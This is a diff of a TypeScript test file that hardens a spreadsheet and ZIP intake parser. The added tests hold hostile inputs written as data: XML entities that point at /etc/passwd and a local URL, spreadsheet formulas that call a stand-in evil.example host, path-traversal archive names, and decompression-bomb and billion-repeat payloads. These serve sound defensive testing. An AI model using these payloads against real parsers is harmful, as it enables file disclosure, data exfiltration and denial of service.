@@ -1,6 +1,7 @@
 import { deflateRawSync } from 'node:zlib';
 import { expect, test } from '@jest/globals';
 import fc from 'fast-check';
+import { fileEntries } from '../../../adapters/intake/file-entries.ts';
 import { WORKBOOK } from '../../../adapters/intake/parse.ts';
 import { readInThread } from '../../../adapters/intake/read-in-thread.ts';
 import { UNSTATED } from '../../../domain/reading/source-format.ts';
@@ -30,24 +31,44 @@ const HEADING = cells(1, ['deal_id', 'customer_name']);
 const sheet = (rows: string, before = '') =>
   `<?xml version="1.0"?>${before}<worksheet ${NS}><sheetData>${rows}</sheetData></worksheet>`;
 
-/** A workbook written by hand (ECMA-376, PKWARE APPNOTE 4.3), so that it may also lie about its sizes. */
+/** A workbook written by hand (ECMA-376). */
 function workbook(
   xml: string,
   { more = {}, size }: { more?: Record<string, string>; size?: number } = {},
 ): Buffer {
-  const entries = Object.entries({ ...PARTS, 'xl/worksheets/sheet1.xml': xml, ...more });
+  return zip({ ...PARTS, 'xl/worksheets/sheet1.xml': xml, ...more }, size);
+}
+
+/** A workbook of LibreOffice written by hand (ODF 1.3, part 3). */
+function ods(rows: string, before = ''): Buffer {
+  const names = ['office', 'table', 'text'].map(
+    (name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`,
+  );
+  return zip({
+    mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
+    'content.xml': `<?xml version="1.0"?>${before}<office:document-content ${names.join(' ')}><office:body><office:spreadsheet><table:table table:name="S">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
+  });
+}
+const odsRow = (values: string[], more = '') =>
+  `<table:table-row${more}>${values.map((value) => `<table:table-cell office:value-type="string"><text:p>${value}</text:p></table:table-cell>`).join('')}</table:table-row>`;
+
+/** @param size what it says of the size of each of its files, if not the truth */
+function zip(files: Record<string, string>, size?: number): Buffer {
+  const entries = Object.entries(files);
   const local: Buffer[] = [];
   const central: Buffer[] = [];
   let at = 0;
   for (const [name, text] of entries) {
     const content = Buffer.from(text);
-    const packed = deflateRawSync(content);
+    // What a file of LibreOffice is, stands unpacked in its first bytes.
+    const stored = name === 'mimetype';
+    const packed = stored ? content : deflateRawSync(content);
     const head = Buffer.alloc(30);
     head.writeUInt32LE(0x04034b50, 0);
-    head.writeUInt16LE(8, 8);
+    head.writeUInt16LE(stored ? 0 : 8, 8);
     const entry = Buffer.alloc(46);
     entry.writeUInt32LE(0x02014b50, 0);
-    entry.writeUInt16LE(8, 10);
+    entry.writeUInt16LE(stored ? 0 : 8, 10);
     entry.writeUInt32LE(at, 42);
     for (const [buffer, from] of [
       [head, 18],
@@ -86,6 +107,12 @@ test('a workbook written by hand is read', async () => {
       workbook(sheet(row(1, inline(['deal_id', 'customer_name'])) + row(2, inline(['1', 'Bare AG'])))),
     ),
   ).not.toContain('broken');
+});
+
+test('a workbook of LibreOffice written by hand is read', async () => {
+  expect(await read(ods(odsRow(['deal_id', 'customer_name']) + odsRow(['1', 'Müritz AG'])))).toEqual([
+    'Müritz AG',
+  ]);
 });
 
 test('an entity of its own is not replaced, and no file is read for it', async () => {
@@ -161,3 +188,158 @@ test('any damage to a workbook ends in an answer', async () => {
     { numRuns: 100 },
   );
 }, 60_000);
+
+const RIGHT = HEADING + cells(2, ['1', 'A']);
+const many = (n: number, one: (at: number) => string) =>
+  Array.from({ length: n }, (_, at) => one(at)).join('');
+const merges = (n: number, one: (at: number) => string) =>
+  sheet(RIGHT).replace('</sheetData>', `</sheetData><mergeCells>${many(n, one)}</mergeCells>`);
+
+test.each<[string, () => Buffer]>([
+  ['one merge over every cell', () => workbook(merges(1, () => '<mergeCell ref="A1:XFD1048576"/>'))],
+  ['a merge beyond every cell', () => workbook(merges(1, () => '<mergeCell ref="A1:ZZZZZZ99999999999"/>'))],
+  [
+    'half a million merges',
+    () => workbook(merges(500_000, (at) => `<mergeCell ref="A${at + 2}:B${at + 2}"/>`)),
+  ],
+  ['merges that overlap', () => workbook(merges(20_000, (at) => `<mergeCell ref="A1:XFD${at + 2}"/>`))],
+  [
+    'a hundred thousand sheets',
+    () =>
+      workbook(sheet(RIGHT), {
+        more: {
+          'xl/workbook.xml': (PARTS['xl/workbook.xml'] ?? '').replace(
+            '<sheet ',
+            `${many(100_000, (at) => `<sheet name="S${at}" sheetId="${at + 2}" r:id="r1"/>`)}<sheet `,
+          ),
+        },
+      }),
+  ],
+  [
+    'text shared by ten thousand cells',
+    () =>
+      workbook(
+        sheet(
+          HEADING +
+            many(10_000, (at) =>
+              row(at + 2, `<c r="A${at + 2}" t="s"><v>0</v></c><c r="B${at + 2}" t="s"><v>0</v></c>`),
+            ),
+        ),
+        {
+          more: { 'xl/sharedStrings.xml': `<sst ${NS}><si><t>${'x'.repeat(32_000)}</t></si></sst>` },
+        },
+      ),
+  ],
+  [
+    'a column of ODS repeated a billion times',
+    () =>
+      ods(
+        `<table:table-column table:number-columns-repeated="1000000000"/>${odsRow(['deal_id', 'customer_name'])}${odsRow(['1', 'A'])}`,
+      ),
+  ],
+  [
+    'a row of ODS repeated a billion times',
+    () =>
+      ods(
+        odsRow(['deal_id', 'customer_name']) + odsRow(['1', 'A'], ' table:number-rows-repeated="1000000000"'),
+      ),
+  ],
+  [
+    'a cell of ODS repeated a billion times',
+    () =>
+      ods(
+        odsRow(['deal_id', 'customer_name']) +
+          '<table:table-row><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>1</text:p></table:table-cell></table:table-row>',
+      ),
+  ],
+  [
+    'blanks of ODS repeated a billion times',
+    () => ods(odsRow(['deal_id', 'customer_name']) + odsRow(['1', 'A<text:s text:c="1000000000"/>'])),
+  ],
+  [
+    'elements nested a million deep',
+    () => workbook(sheet(HEADING + row(2, `${'<c>'.repeat(300_000)}${'</c>'.repeat(300_000)}`))),
+  ],
+  [
+    'half a million attributes',
+    () => workbook(sheet(HEADING + row(2, `<c ${many(300_000, (at) => `a${at}="1" `)}r="A2"/>`))),
+  ],
+  ['a comment without end', () => workbook(sheet(`${HEADING}<!--${'-'.repeat(2_000_000)}`))],
+  ['tags without end', () => workbook(sheet(HEADING + '<c '.repeat(700_000)))],
+])(
+  '%s ends in an answer, in time and memory',
+  async (_, body) => {
+    const bytes = body();
+    const [before, started] = [process.memoryUsage().rss, Date.now()];
+    const [first = 'nothing'] = await read(bytes, 8_000);
+    expect(typeof first).toBe('string');
+    // The thread's own budget, the time to end it, and a busy machine.
+    expect(Date.now() - started).toBeLessThan(40_000);
+    expect(process.memoryUsage().rss - before).toBeLessThan(900 * 1024 * 1024);
+  },
+  60_000,
+);
+
+test('entities of ODS are not replaced, and no file is read for them', async () => {
+  const type =
+    '<!DOCTYPE x [<!ENTITY own "expanded"><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://127.0.0.1:9/x">]>';
+  const got = await read(ods(odsRow(['deal_id', 'customer_name']) + odsRow(['1', '&own;&file;&web;']), type));
+  expect(JSON.stringify(got)).not.toMatch(/expanded|root:/);
+});
+
+test('a formula is text of its last value, never another formula in what we write', async () => {
+  const evil = `=HYPERLINK("http://evil.example?"&amp;A1,"x")`;
+  expect(await read(workbook(sheet(HEADING + cells(2, ['1', evil]))))).toEqual([
+    '=HYPERLINK("http://evil.example?"&A1,"x")',
+  ]);
+  const unknown = row(
+    2,
+    '<c r="A2" t="inlineStr"><is><t>1</t></is></c><c r="B2"><f>WEBSERVICE("http://evil.example")</f></c>',
+  );
+  expect(JSON.stringify(await read(workbook(sheet(HEADING + unknown))))).not.toContain('evil.example');
+});
+
+test('names of files in an archive lead nowhere', async () => {
+  const names = [
+    '../../etc/passwd.csv',
+    '/etc/cron.d/x.csv',
+    'C:\\windows\\x.csv',
+    '..\\..\\x.csv',
+    '__proto__',
+    'a\u0000b.csv',
+    '\u202evsc.x',
+  ];
+  const body = zip(Object.fromEntries(names.map((name) => [name, 'deal_id,customer_name\n1,A\n'])));
+  const entries = await fileEntries('deals.zip', body);
+  for (const one of entries) {
+    expect(one.file).not.toMatch(/\.\.[\\/]|^\/|[\p{Cc}\p{Cf}]/u);
+    expect(({} as { bytes?: unknown }).bytes).toBeUndefined();
+  }
+});
+
+test.each<[string, () => Buffer]>([
+  ['an archive of a lying size', () => zip({ 'a.csv': 'x'.repeat(80_000_000) }, 10)],
+  ['an archive of a true size', () => zip({ 'a.csv': 'x'.repeat(80_000_000) })],
+  [
+    'an archive of five thousand files',
+    () => zip(Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`${at}.csv`, '']))),
+  ],
+  ['an archive in itself', () => zip({ 'a.zip': zip({ 'b.csv': 'x' }).toString('latin1') })],
+  [
+    'a directory that points at itself',
+    () => {
+      const body = zip({ 'a.csv': 'deal_id' });
+      body.writeUInt32LE(0, body.length - 6);
+      return body;
+    },
+  ],
+])(
+  '%s is opened within its budget or not at all',
+  async (_, body) => {
+    const started = Date.now();
+    const got = await readInThread('unpack', { body: body() });
+    expect('code' in got || 'problem' in got.answer || got.answer.entries.length <= 200).toBe(true);
+    expect(Date.now() - started).toBeLessThan(30_000);
+  },
+  60_000,
+);
